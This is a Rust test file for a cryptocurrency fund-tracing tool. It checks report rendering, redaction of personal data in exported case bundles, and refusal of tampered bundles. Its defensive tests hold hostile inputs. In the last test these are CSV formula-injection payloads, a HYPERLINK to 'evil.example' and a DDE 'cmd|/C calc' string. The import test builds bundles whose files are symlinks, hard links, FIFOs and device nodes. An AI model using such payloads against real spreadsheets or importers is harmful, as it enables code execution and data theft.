//! Trace reports end to end: a simulated case traced to its exchange
//! deposits, reported in Japanese and English; the HTML parses and names
//! every endpoint, report.json validates against its schema, the CSVs carry
//! a BOM and every row, MANIFEST.sha256 matches the files, yen follow the
//! price file, and the recorded command regenerates byte-identical files.

mod support;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::Value;
use sha2::{Digest, Sha256};
use support::{fails, ok, simulated_ledger, stderr, truth_records};

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// A case file for the first truth case on a direct route with deposits.
fn direct_case(sim: &Path, dir: &Path) -> PathBuf {
    let records = truth_records(sim);
    let routes = support::truth_routes(&records);
    let case = records
        .iter()
        .filter(|r| r["type"] == "case")
        .find(|r| {
            matches!(
                routes[&r["group"].as_u64().unwrap()].as_str(),
                "consolidate" | "peel"
            ) && !r["endpoints"].as_array().unwrap().is_empty()
        })
        .expect("a direct case");
    let seeds = support::truth_seeds(case);
    let path = dir.join("case.toml");
    std::fs::write(
        &path,
        format!(
            "format = 1\n[case]\nid = \"KANAGAWA-2026-0007\"\ntitle = \"ロマンス詐欺\"\n\
             prefecture = \"神奈川県\"\ncrime = \"romance_fraud\"\nreported = 2026-03-02\n\
             investigator = \"Test\"\n\n{}",
            seeds
        ),
    )
    .unwrap();
    path
}

fn files(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap())
        .map(|e| {
            (
                e.file_name().to_string_lossy().into_owned(),
                std::fs::read(e.path()).unwrap(),
            )
        })
        .collect()
}

fn csv_rows(bytes: &[u8]) -> usize {
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 BOM");
    csv::Reader::from_reader(&bytes[3..]).records().count()
}

/// Runs a poppler tool (installed by tests/setup.sh); its stdout.
fn run_tool(tool: &str, args: &[&str]) -> String {
    let out = std::process::Command::new(tool)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("{tool} (poppler-utils, installed by tests/setup.sh): {e}"));
    assert!(
        out.status.success(),
        "{tool} {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The share of non-white pixels of the PDF's first page, rendered by
/// pdftoppm to a greyscale PGM.
fn inked_share(pdf: &Path, dir: &Path) -> f64 {
    let stem = dir.join("page");
    run_tool(
        "pdftoppm",
        &[
            "-f",
            "1",
            "-l",
            "1",
            "-r",
            "40",
            "-gray",
            "-singlefile",
            s(pdf),
            s(&stem),
        ],
    );
    let bytes = std::fs::read(stem.with_extension("pgm")).unwrap();
    // P5 header: magic, width, height, maxval, then one byte a pixel.
    let mut fields = Vec::new();
    let mut i = 0;
    while fields.len() < 4 {
        while bytes[i].is_ascii_whitespace() {
            i += 1;
        }
        let start = i;
        while !bytes[i].is_ascii_whitespace() {
            i += 1;
        }
        fields.push(String::from_utf8_lossy(&bytes[start..i]).into_owned());
    }
    assert_eq!(fields[0], "P5");
    let pixels = &bytes[i + 1..];
    let dark = pixels.iter().filter(|&&p| p < 200).count();
    dark as f64 / pixels.len() as f64
}

#[test]
fn trace_report_renders_validates_and_regenerates_byte_identically() {
    let (tmp, sim, db) = simulated_ledger(7);
    ok(&["--db", s(&db), "tags", "import", s(&sim.join("tags.yaml"))]);
    ok(&["--db", s(&db), "cluster", "build"]);
    let case = direct_case(&sim, tmp.path());
    let trace_dir = tmp.path().join("trace");
    ok(&[
        "--db",
        s(&db),
        "trace",
        s(&case),
        "--out",
        s(&trace_dir),
        "--model",
        "haircut,fifo",
    ]);
    let trace: Value =
        serde_json::from_slice(&std::fs::read(trace_dir.join("trace.json")).unwrap()).unwrap();
    let endpoints = trace["endpoints"].as_array().unwrap().clone();
    assert!(!endpoints.is_empty());

    // A price for the day of the first endpoint's arrival.
    let day = &endpoints[0]["first_time"].as_str().unwrap()[..10];
    let prices = tmp.path().join("prices.csv");
    std::fs::write(&prices, format!("date,symbol,jpy\n{day},BTC,15000000\n")).unwrap();
    let eval_dir = tmp.path().join("eval");
    ok(&[
        "--db",
        s(&db),
        "evaluate",
        "--truth",
        s(&sim.join("truth.jsonl")),
        "--out",
        s(&eval_dir),
    ]);
    let evaluation: Value =
        serde_json::from_slice(&std::fs::read(eval_dir.join("evaluation.json")).unwrap()).unwrap();
    let cospend_precision = evaluation["clustering"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["level"] == "cospend")
        .unwrap()["precision"]
        .clone();
    let schema: Value = serde_json::from_str(reports::REPORT_SCHEMA).unwrap();
    let validator = jsonschema::validator_for(&schema).expect("the schema is valid");

    for lang in ["ja", "en"] {
        let out = tmp.path().join(format!("report-{lang}"));
        ok(&[
            "--db",
            s(&db),
            "report",
            s(&case),
            "--trace",
            s(&trace_dir),
            "--lang",
            lang,
            "--out",
            s(&out),
            "--prices",
            s(&prices),
            "--source",
            "simulated-regtest-chain-7",
            "--evaluation",
            s(&eval_dir.join("evaluation.json")),
        ]);
        let written = files(&out);
        let names: Vec<&str> = written.keys().map(String::as_str).collect();
        assert_eq!(
            names,
            [
                "MANIFEST.sha256",
                "endpoints.csv",
                "graph.dot",
                "graph.graphml",
                "hops.csv",
                "report.html",
                "report.json",
                "report.pdf"
            ]
        );

        // HTML: well-formed, in the right language, every endpoint named.
        let html = String::from_utf8(written["report.html"].clone()).unwrap();
        let opts = roxmltree::ParsingOptions {
            allow_dtd: true,
            ..Default::default()
        };
        let doc = roxmltree::Document::parse_with_options(&html, opts).expect("well-formed HTML");
        assert_eq!(doc.root_element().attribute("lang"), Some(lang));
        for e in &endpoints {
            assert!(
                html.contains(e["deposit_address"].as_str().unwrap()),
                "{lang}: endpoint address"
            );
            assert!(
                html.contains(e["service"].as_str().unwrap()),
                "{lang}: endpoint service"
            );
        }
        let title = if lang == "ja" {
            "資金追跡報告書"
        } else {
            "fund trace report"
        };
        assert!(html.contains(title), "{lang}: title");
        assert!(
            doc.descendants()
                .any(|n| n.has_tag_name(("http://www.w3.org/2000/svg", "svg"))),
            "inline SVG graph"
        );

        // JSON: valid against the schema, same facts as the trace.
        let report: Value = serde_json::from_slice(&written["report.json"]).unwrap();
        let errors: Vec<String> = validator
            .iter_errors(&report)
            .map(|e| e.to_string())
            .collect();
        assert!(errors.is_empty(), "{lang}: {errors:?}");
        assert_eq!(
            report["endpoints"].as_array().unwrap().len(),
            endpoints.len()
        );
        assert_eq!(
            report["hops"].as_array().unwrap().len(),
            trace["edges"].as_array().unwrap().len()
        );
        assert_eq!(
            report["provenance"]["fingerprint"],
            support::fingerprint(&db).as_str()
        );
        assert_eq!(
            report["models"].as_array().unwrap().len(),
            2,
            "haircut and fifo compared"
        );
        // The clustering the trace relied on, with the precision `evaluate` measured.
        let multi = report["methodology"]["heuristics"]
            .as_array()
            .unwrap()
            .iter()
            .find(|h| h["name"] == "multi_input")
            .expect("multi_input listed");
        assert_eq!(multi["measured_precision"], cospend_precision);

        // Yen: the first endpoint's amount at the day's price, where every arrival was that day.
        let first = &report["endpoints"][0];
        if endpoints[0]["first_time"].as_str().unwrap()[..10]
            == endpoints[0]["last_time"].as_str().unwrap()[..10]
        {
            let sat: u128 = first["amount"].as_str().unwrap().parse().unwrap();
            let want = ((sat * 15_000_000 + 50_000_000) / 100_000_000) as i64;
            assert_eq!(first["jpy"].as_i64(), Some(want));
        }

        // CSVs: a BOM and a row per endpoint and per hop.
        assert_eq!(csv_rows(&written["endpoints.csv"]), endpoints.len());
        assert_eq!(
            csv_rows(&written["hops.csv"]),
            trace["edges"].as_array().unwrap().len()
        );

        // PDF: the font embedded, the text extractable, the first page not blank.
        let pdf = out.join("report.pdf");
        let fonts = run_tool("pdffonts", &[s(&pdf)]);
        assert!(
            fonts.contains("CID TrueType") || fonts.contains("CID Type 0C"),
            "{fonts}"
        );
        assert!(
            fonts.lines().skip(2).all(|l| l.contains(" yes yes ")),
            "embedded subsets: {fonts}"
        );
        let text = run_tool("pdftotext", &["-raw", s(&pdf), "-"]);
        assert!(text.contains("KANAGAWA-2026-0007"), "case id in the PDF");
        assert!(text.contains(title), "{lang}: title in the PDF");
        // Table cells wrap long addresses: compare without the line breaks.
        let joined: String = text.split_whitespace().collect();
        for e in &endpoints {
            assert!(
                joined.contains(e["deposit_address"].as_str().unwrap()),
                "endpoint in the PDF"
            );
        }
        assert!(
            inked_share(&pdf, tmp.path()) > 0.005,
            "{lang}: the first page has content"
        );

        // A Japanese report is Japanese throughout (the regenerate section
        // quotes the commands as typed); an English one English.
        let html_body = support::html_text(&html);
        let pdf_body = text.split("再現手順").next().unwrap();
        for (name, body) in [
            ("report.html", html_body.as_str()),
            ("report.pdf", pdf_body),
        ] {
            let english = support::english_terms(body);
            // Table cells wrap: compare without the line breaks.
            let joined: String = body.split_whitespace().collect();
            if lang == "ja" {
                assert!(english.is_empty(), "{name} (ja) holds {english:?}");
                for ja in [
                    "神奈川県",
                    "ロマンス詐欺",
                    "入金アドレスからの集約送金",
                    "交換業者",
                ] {
                    assert!(joined.contains(ja), "{name} (ja) lacks {ja}");
                }
            } else {
                for en in ["deposit_sweep", "exchange", "Kanagawa"] {
                    assert!(english.contains(en), "{name} (en) lacks {en}");
                }
                assert!(
                    joined.contains("romancefraud") && !joined.contains("神奈川県"),
                    "{name}"
                );
            }
        }

        // Graph files: GraphML parses, with a node per graph node and an
        // edge per hop; DOT names every hop's transaction.
        let gml = String::from_utf8(written["graph.graphml"].clone()).unwrap();
        let g = roxmltree::Document::parse(&gml).expect("well-formed GraphML");
        let count = |tag: &str| g.descendants().filter(|n| n.has_tag_name(tag)).count();
        assert_eq!(count("node"), report["nodes"].as_array().unwrap().len());
        assert_eq!(count("edge"), report["hops"].as_array().unwrap().len());
        let dot = String::from_utf8(written["graph.dot"].clone()).unwrap();
        assert!(dot.starts_with("digraph trace {") && dot.trim_end().ends_with('}'));
        for h in report["hops"].as_array().unwrap() {
            assert!(dot.contains(h["txid"].as_str().unwrap()), "hop txid in DOT");
        }

        // The manifest covers every other file.
        let manifest = String::from_utf8(written["MANIFEST.sha256"].clone()).unwrap();
        assert_eq!(manifest.lines().count(), 7);
        for line in manifest.lines() {
            let (digest, name) = line.split_once("  ").unwrap();
            assert_eq!(
                digest,
                format!("{:x}", Sha256::digest(&written[name])),
                "{name}"
            );
        }

        // The recorded command regenerates the same bytes.
        let command = report["commands"]
            .as_array()
            .unwrap()
            .last()
            .unwrap()
            .as_str()
            .unwrap()
            .to_string();
        assert!(command.starts_with("tracer --db "), "{command}");
        let args: Vec<&str> = command.split(' ').skip(1).collect();
        std::fs::remove_dir_all(&out).unwrap();
        ok(&args);
        assert_eq!(files(&out), written, "{lang}: byte-identical rerun");
    }
}

#[test]
fn report_inputs_that_do_not_fit_are_refused() {
    let (tmp, _sim, db) = simulated_ledger(3);
    let dir = tmp.path();
    let case = dir.join("case.toml");
    let real = support::fixture("cases/tokyo-2026-0001.toml");
    std::fs::copy(&real, &case).unwrap();
    let trace_dir = dir.join("trace");
    std::fs::create_dir_all(&trace_dir).unwrap();
    let out = dir.join("out");
    // `tracer [GLOBAL…] report CASE --trace DIR --out OUT [EXTRA…]`, expected to fail.
    let refused = |global: &[&str], case: &Path, extra: &[&str]| {
        let mut args = global.to_vec();
        args.extend([
            "report",
            s(case),
            "--trace",
            s(&trace_dir),
            "--out",
            s(&out),
        ]);
        args.extend_from_slice(extra);
        stderr(&fails(&args))
    };
    // No trace yet.
    let e = refused(&[], &case, &[]);
    assert!(e.contains("no trace.json"), "{e}");
    // A trace file that is not one.
    std::fs::write(trace_dir.join("trace.json"), "{\"tool\": \"x\"").unwrap();
    let e = refused(&[], &case, &[]);
    assert!(e.contains("trace.json: not a tracer trace file"), "{e}");
    // A trace of another case.
    let other = dir.join("other.toml");
    std::fs::write(
        &other,
        std::fs::read_to_string(&real)
            .unwrap()
            .replace("TOKYO-2026-0001", "OSAKA-2026-0002"),
    )
    .unwrap();
    let real_db = dir.join("real");
    support::ingest_main(
        &real_db,
        &support::fixture("bitcoin/blk-heights-0-4312.dat"),
    );
    ok(&[
        "--db",
        s(&real_db),
        "trace",
        s(&other),
        "--out",
        s(&trace_dir),
        "--level",
        "address",
    ]);
    let e = refused(&[], &case, &[]);
    assert!(
        e.contains("was traced for case OSAKA-2026-0002, not TOKYO-2026-0001"),
        "{e}"
    );
    // A ledger other than the one traced.
    let e = refused(&["--db", s(&db)], &other, &[]);
    assert!(e.contains("trace again on this ledger"), "{e}");
    // A price file with a bad line.
    let prices = dir.join("p.csv");
    std::fs::write(&prices, "date,symbol,jpy\n2009-01-12,BTC,cheap\n").unwrap();
    let e = refused(&[], &other, &["--prices", s(&prices)]);
    assert!(e.contains("p.csv:2: \"cheap\" is not a price"), "{e}");
    // A broken case file.
    std::fs::write(&case, "format = 1\n[case]\nid = 3\n").unwrap();
    let e = refused(&[], &case, &[]);
    assert!(e.contains("case.toml:"), "{e}");
    assert!(!out.exists(), "nothing written on refusal");
}

/// `tracer export CASE --trace TRACE --out OUT EXTRA…`; its stdout.
fn export(case: &Path, trace: &Path, out: &Path, extra: &[&str]) -> String {
    let mut args = vec!["export", s(case), "--trace", s(trace), "--out", s(out)];
    args.extend_from_slice(extra);
    ok(&args)
}

/// The real blocks 0–4312 ingested into `tmp/db`.
fn real_ledger() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let db = tmp.path().join("db");
    support::ingest_main(&db, &support::fixture("bitcoin/blk-heights-0-4312.dat"));
    (tmp, db)
}

/// Traces `case` on the real-chain ledger `db` (address level, haircut and
/// poison) into `out`.
fn trace_real_case(db: &Path, case: &Path, out: &Path) {
    support::trace(
        db,
        case,
        out,
        &["--level", "address", "--model", "haircut,poison"],
    );
}

#[test]
fn bundles_leave_out_personal_data_and_tampering_is_refused() {
    let (tmp, db) = real_ledger();
    let dir = tmp.path();
    let case = support::fixture("cases/tokyo-2026-0001.toml");
    let trace_dir = dir.join("trace");
    trace_real_case(&db, &case, &trace_dir);

    // Redacted by default: no title, notes, investigator or seed notes anywhere.
    let bundle = dir.join("bundle");
    let done: Value =
        serde_json::from_str(&export(&case, &trace_dir, &bundle, &["--json"])).unwrap();
    assert_eq!(done["redacted"], true);
    let written = files(&bundle);
    let names: Vec<&str> = written.keys().map(String::as_str).collect();
    assert_eq!(
        names,
        [
            "MANIFEST.sha256",
            "bundle.json",
            "trace-poison.json",
            "trace.json"
        ]
    );
    for (name, bytes) in &written {
        let text = String::from_utf8_lossy(bytes);
        for personal in [
            "Sgt. Sato",
            "Fake police call",
            "Stand-in facts",
            "victim's first payment",
        ] {
            assert!(!text.contains(personal), "{name} still holds {personal:?}");
        }
    }
    let meta: Value = serde_json::from_slice(&written["bundle.json"]).unwrap();
    assert_eq!(meta["case"]["id"], "TOKYO-2026-0001");
    assert_eq!(meta["case"]["prefecture"], "Tokyo");
    assert!(meta["case"]["investigator"].is_null());
    let trace: Value = serde_json::from_slice(&written["trace.json"]).unwrap();
    assert_eq!(
        trace["endpoints"],
        serde_json::from_slice::<Value>(&std::fs::read(trace_dir.join("trace.json")).unwrap())
            .unwrap()["endpoints"]
    );

    // With personal data only when asked.
    let full = dir.join("full");
    export(&case, &trace_dir, &full, &["--with-personal-data"]);
    assert!(
        String::from_utf8_lossy(&std::fs::read(full.join("bundle.json")).unwrap())
            .contains("Sgt. Sato")
    );

    // Import verifies, keeps the files, and reports the same fingerprint.
    let imports = dir.join("imports");
    let got: Value = serde_json::from_str(&ok(&[
        "import",
        s(&bundle),
        "--into",
        s(&imports),
        "--json",
    ]))
    .unwrap();
    assert_eq!(got["fingerprint"], done["fingerprint"]);
    assert_eq!(files(&imports.join("TOKYO-2026-0001")), written);
    let again = stderr(&fails(&["import", s(&bundle), "--into", s(&imports)]));
    assert!(again.contains("imported before"), "{again}");

    // A changed byte, an added file, a missing file: refused, nothing imported.
    let tampered = dir.join("tampered");
    let copy = |to: &Path| {
        std::fs::create_dir_all(to).unwrap();
        for (n, b) in &written {
            std::fs::write(to.join(n), b).unwrap();
        }
    };
    copy(&tampered);
    let mut t = written["trace.json"].clone();
    let pos = t.iter().position(|&b| b == b'1').unwrap();
    t[pos] = b'2';
    std::fs::write(tampered.join("trace.json"), &t).unwrap();
    let e = stderr(&fails(&[
        "import",
        s(&tampered),
        "--into",
        s(&dir.join("i2")),
    ]));
    assert!(e.contains("trace.json was changed"), "{e}");
    let extra = dir.join("extra");
    copy(&extra);
    std::fs::write(extra.join("notes.txt"), "victim phone number").unwrap();
    let e = stderr(&fails(&["import", s(&extra), "--into", s(&dir.join("i3"))]));
    assert!(e.contains("notes.txt is not in the manifest"), "{e}");
    let missing = dir.join("missing");
    copy(&missing);
    std::fs::remove_file(missing.join("trace-poison.json")).unwrap();
    let e = stderr(&fails(&[
        "import",
        s(&missing),
        "--into",
        s(&dir.join("i4")),
    ]));
    assert!(e.contains("trace-poison.json"), "{e}");
    for i in ["i2", "i3", "i4"] {
        assert!(!dir.join(i).exists(), "nothing imported from a bad bundle");
    }
}

#[test]
fn redacted_bundles_hold_no_personal_string_of_the_case() {
    let (tmp, db) = real_ledger();
    let dir = tmp.path();
    // A case kept as police keep them: under the investigator's and the
    // victim's names, with personal text in every free field.
    let people = ["Sgt-Sato-Ichiro", "victim-Yamada-Hanako-090-1234-5678"];
    let case_dir = dir.join("cases").join(people[0]).join(people[1]);
    std::fs::create_dir_all(&case_dir).unwrap();
    let personal = [
        "Yamada Hanako, 3-1 Kasumigaseki",
        "called from 090-1234-5678 on 27 Feb",
        "Sgt. Sato Ichiro, Cyber Crime Division",
        "paid at the Lawson near her home",
        "the 40 BTC her son-in-law Taro moved",
    ];
    let real = std::fs::read_to_string(support::fixture("cases/tokyo-2026-0001.toml")).unwrap();
    let text = real
        .replace("Fake police call, victim paid in BTC", personal[0])
        .replace(
            "Stand-in facts: block 170, the first person-to-person payment.",
            personal[1],
        )
        .replace("Sgt. Sato, Cyber Crime Division", personal[2])
        .replace("victim's first payment", personal[3])
        .replace("the 40 BTC the victim was told to keep 'safe'", personal[4]);
    for p in personal {
        assert!(text.contains(p), "{p} in the case file");
    }
    let case = case_dir.join("case.toml");
    std::fs::write(&case, text).unwrap();
    let trace_dir = case_dir.join("trace");
    trace_real_case(&db, &case, &trace_dir);
    let unredacted = std::fs::read_to_string(trace_dir.join("trace.json")).unwrap();
    assert!(
        unredacted.contains(people[1]),
        "the trace records the case path"
    );

    let bundle = dir.join("bundle");
    export(&case, &trace_dir, &bundle, &[]);
    // Every personal string, and the directory names of the paths used.
    let mut strings: Vec<String> = personal
        .iter()
        .chain(&people)
        .map(|p| p.to_string())
        .collect();
    strings.push(dir.file_name().unwrap().to_str().unwrap().to_string());
    let written = files(&bundle);
    assert_eq!(written.len(), 4);
    for (name, bytes) in &written {
        let text = String::from_utf8_lossy(bytes);
        for p in &strings {
            assert!(!text.contains(p.as_str()), "{name} still holds {p:?}");
        }
    }
    // The command stays readable: options and trace parameters, no paths.
    let trace: Value = serde_json::from_slice(&written["trace.json"]).unwrap();
    assert_eq!(
        trace["command"],
        "tracer --db <redacted> trace <redacted> --out <redacted> --level address --model haircut,poison"
    );
    assert_eq!(trace["case"]["id"], "TOKYO-2026-0001");
    assert_eq!(
        trace["case"]["seeds"][1]["address"],
        "12cbQLTFMXRnSzktFkuoG3eHoMeFtpTu3S"
    );
}

/// A bundle written by hand: `bundle.json` of case `X-1` without traces,
/// the files `extra` (name, bytes), and a manifest over both.
fn hand_made_bundle(dir: &Path, extra: &[(&str, &[u8])]) {
    std::fs::create_dir_all(dir).unwrap();
    let meta = br#"{"format": 1, "case": {"id": "X-1"}, "traces": []}"#;
    let mut manifest = String::new();
    let mut all: Vec<(&str, &[u8])> = vec![("bundle.json", meta)];
    all.extend_from_slice(extra);
    all.sort();
    for (name, bytes) in all {
        std::fs::write(dir.join(name), bytes).unwrap();
        manifest.push_str(&format!("{:x}  {name}\n", Sha256::digest(bytes)));
    }
    std::fs::write(dir.join("MANIFEST.sha256"), manifest).unwrap();
}

/// `tracer import BUNDLE --into INTO`, expected to fail; its stderr. Run
/// with 2 GiB of address space and killed after 60 s, so that a reader
/// that follows `/dev/zero` or waits on a FIFO fails instead of hanging.
fn import_refused(bundle: &Path, into: &Path) -> String {
    use std::os::unix::process::CommandExt;
    let mut cmd = support::tracer();
    cmd.args(["import", s(bundle), "--into", s(into)])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    // SAFETY: only setrlimit, which is async-signal-safe, runs in the child.
    unsafe {
        cmd.pre_exec(|| {
            let limit = libc::rlimit {
                rlim_cur: 2 << 30,
                rlim_max: 2 << 30,
            };
            if libc::setrlimit(libc::RLIMIT_AS, &limit) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let mut child = cmd.spawn().unwrap();
    let start = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed() > std::time::Duration::from_secs(60) {
            child.kill().unwrap();
            panic!("import {} did not finish", bundle.display());
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let out = child.wait_with_output().unwrap();
    assert!(
        !out.status.success(),
        "import {} succeeded",
        bundle.display()
    );
    assert!(!into.join("X-1").exists(), "nothing imported");
    stderr(&out)
}

/// `tracer import` of a hand-made bundle under `dir/<case>` whose listed
/// file `name` (of content `listed`) is then replaced by what `put` makes
/// at its path; refused, its stderr.
fn import_with(
    dir: &Path,
    case: &str,
    name: &str,
    listed: &[u8],
    put: impl FnOnce(&Path),
) -> String {
    let bundle = dir.join(case);
    hand_made_bundle(&bundle, &[(name, listed)]);
    let path = bundle.join(name);
    std::fs::remove_file(&path).unwrap();
    put(&path);
    import_refused(&bundle, &dir.join("imports"))
}

/// A C string of `path` for libc.
fn c_path(path: &Path) -> std::ffi::CString {
    std::ffi::CString::new(s(path)).unwrap()
}

#[test]
fn import_reads_regular_files_only_within_size_limits() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let plain = dir.join("plain");
    hand_made_bundle(&plain, &[("notes.json", b"{}")]);
    // The hand-made bundle imports as it is.
    ok(&["import", s(&plain), "--into", s(&dir.join("fine"))]);
    assert!(dir.join("fine/X-1/notes.json").is_file());

    // A bundle file linked to a local file whose digest the sender knows
    // would copy that file into the import, by a symbolic or a hard link.
    let secret = dir.join("secret.txt");
    std::fs::write(&secret, b"local secret").unwrap();
    let e = import_with(dir, "linked", "notes.json", b"local secret", |p| {
        std::os::unix::fs::symlink(&secret, p).unwrap()
    });
    assert!(e.contains("notes.json is a symbolic link"), "{e}");
    let e = import_with(dir, "hard", "notes.json", b"local secret", |p| {
        std::fs::hard_link(&secret, p).unwrap()
    });
    assert!(e.contains("notes.json is a hard link"), "{e}");
    // A file, or the manifest, linked to /dev/zero would be read forever.
    let zero = |p: &Path| std::os::unix::fs::symlink("/dev/zero", p).unwrap();
    let e = import_with(dir, "zero", "trace.json", b"{}", zero);
    assert!(e.contains("trace.json is a symbolic link"), "{e}");
    let e = import_with(dir, "zero-manifest", "MANIFEST.sha256", b"", zero);
    assert!(e.contains("MANIFEST.sha256 is a symbolic link"), "{e}");
    // A FIFO would block the reader; a device node reads without end; a
    // directory is no file.
    let e = import_with(dir, "fifo", "trace.json", b"{}", |p| {
        assert_eq!(unsafe { libc::mkfifo(c_path(p).as_ptr(), 0o600) }, 0)
    });
    assert!(e.contains("trace.json is a FIFO"), "{e}");
    let e = import_with(dir, "device", "trace.json", b"{}", |p| {
        // The character device of /dev/zero (1, 5); the tests run as root.
        let made = unsafe {
            libc::mknod(
                c_path(p).as_ptr(),
                libc::S_IFCHR | 0o600,
                libc::makedev(1, 5),
            )
        };
        assert_eq!(made, 0, "mknod: {}", std::io::Error::last_os_error());
    });
    assert!(e.contains("trace.json is a device"), "{e}");
    let e = import_with(dir, "subdir", "trace.json", b"{}", |p| {
        std::fs::create_dir(p).unwrap()
    });
    assert!(e.contains("trace.json is a directory"), "{e}");

    // Sizes are bounded per file and per bundle (sparse files: nothing is
    // written to disk, and nothing of them is read).
    let sparse = |p: &Path, len: u64| std::fs::File::create(p).unwrap().set_len(len).unwrap();
    let max = reports::bundle::MAX_FILE_BYTES;
    let e = import_with(dir, "big", "trace.json", b"{}", |p| sparse(p, max + 1));
    let want = format!(
        "trace.json is {} bytes, more than a bundle file may be",
        max + 1
    );
    assert!(e.contains(&want), "{e}");
    let many = dir.join("many");
    let names = ["a.json", "b.json", "c.json", "d.json", "e.json"];
    let parts: Vec<(&str, &[u8])> = names.iter().map(|n| (*n, &b"{}"[..])).collect();
    hand_made_bundle(&many, &parts);
    for n in names {
        sparse(&many.join(n), max);
    }
    let e = import_refused(&many, &dir.join("imports"));
    assert!(e.contains("the files hold more than a bundle may"), "{e}");
}

/// Every cell of a CSV file tracer wrote (after its BOM).
fn csv_cells(bytes: &[u8]) -> Vec<String> {
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 BOM");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..])
        .records()
        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
        .collect()
}

#[test]
fn hostile_tag_labels_never_become_spreadsheet_formulas() {
    let (tmp, sim, db) = simulated_ledger(7);
    // The simulator's TagPack, its actors, labels and source turned into
    // formulas, as a hostile or careless TagPack author would write them.
    let pack = std::fs::read_to_string(sim.join("tags.yaml")).unwrap();
    let hostile: String = pack
        .lines()
        .map(|l| {
            if let Some(actor) = l.strip_prefix("  actor: ") {
                format!("  actor: '=HYPERLINK(\"http://evil.example/{actor}\",\"{actor}\")'")
            } else if let Some(label) = l.strip_prefix("  label: ") {
                format!("  label: '+cmd|'' /C calc''!A0 {label}'")
            } else if l.starts_with("source: ") {
                "source: '@SUM(1+1)*cmd|'' /C calc''!A0'".to_string()
            } else {
                l.to_string()
            }
        })
        .map(|l| l + "\n")
        .collect();
    assert_ne!(hostile, pack);
    let tags = tmp.path().join("hostile.yaml");
    std::fs::write(&tags, hostile).unwrap();
    ok(&["--db", s(&db), "tags", "import", s(&tags)]);
    ok(&["--db", s(&db), "cluster", "build"]);
    let case = direct_case(&sim, tmp.path());
    let trace_dir = tmp.path().join("trace");
    ok(&["--db", s(&db), "trace", s(&case), "--out", s(&trace_dir)]);
    let report = tmp.path().join("report");
    ok(&[
        "report",
        s(&case),
        "--trace",
        s(&trace_dir),
        "--out",
        s(&report),
    ]);
    // Every case of the simulated chain, linked: shared deposit addresses
    // carry the services' names into links.csv.
    let records = truth_records(&sim);
    let mut cases = Vec::new();
    for c in records.iter().filter(|r| r["type"] == "case") {
        let path = tmp.path().join(format!("case-{}.toml", c["id"]));
        std::fs::write(
            &path,
            format!(
                "format = 1\n[case]\nid = \"SIM-{}\"\nprefecture = \"{}\"\ncrime = \"other\"\n\
                 reported = 2026-03-02\ninvestigator = \"Test\"\n\n{}",
                c["id"],
                c["prefecture"].as_str().unwrap(),
                support::truth_seeds(c)
            ),
        )
        .unwrap();
        cases.push(path);
    }
    let link = tmp.path().join("link");
    let mut args = vec!["--db", s(&db), "link", "--out", s(&link)];
    args.extend(cases.iter().map(|p| s(p)));
    ok(&args);

    let dangerous = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
    // A plain negative number is a number, not a formula.
    let number = |c: &str| {
        c.strip_prefix('-')
            .is_some_and(|d| !d.is_empty() && d.chars().all(|x| x.is_ascii_digit() || x == '.'))
    };
    let mut neutralised = BTreeMap::new();
    for path in [
        report.join("endpoints.csv"),
        report.join("hops.csv"),
        link.join("links.csv"),
        link.join("cases.csv"),
    ] {
        let cells = csv_cells(&std::fs::read(&path).unwrap());
        for c in &cells {
            assert!(
                !c.starts_with(dangerous) || number(c),
                "{}: a cell a spreadsheet would evaluate: {c:?}",
                path.display()
            );
        }
        let quoted = cells
            .iter()
            .filter(|c| c.starts_with("'=HYPERLINK(") || c.starts_with("'+cmd|"))
            .count();
        neutralised.insert(
            path.file_name().unwrap().to_str().unwrap().to_string(),
            quoted,
        );
    }
    // The hostile names did reach the tables: the services in the endpoint
    // table (service, and the tag as evidence) and in the links.
    assert!(neutralised["endpoints.csv"] >= 2, "{neutralised:?}");
    assert!(neutralised["links.csv"] >= 1, "{neutralised:?}");
}
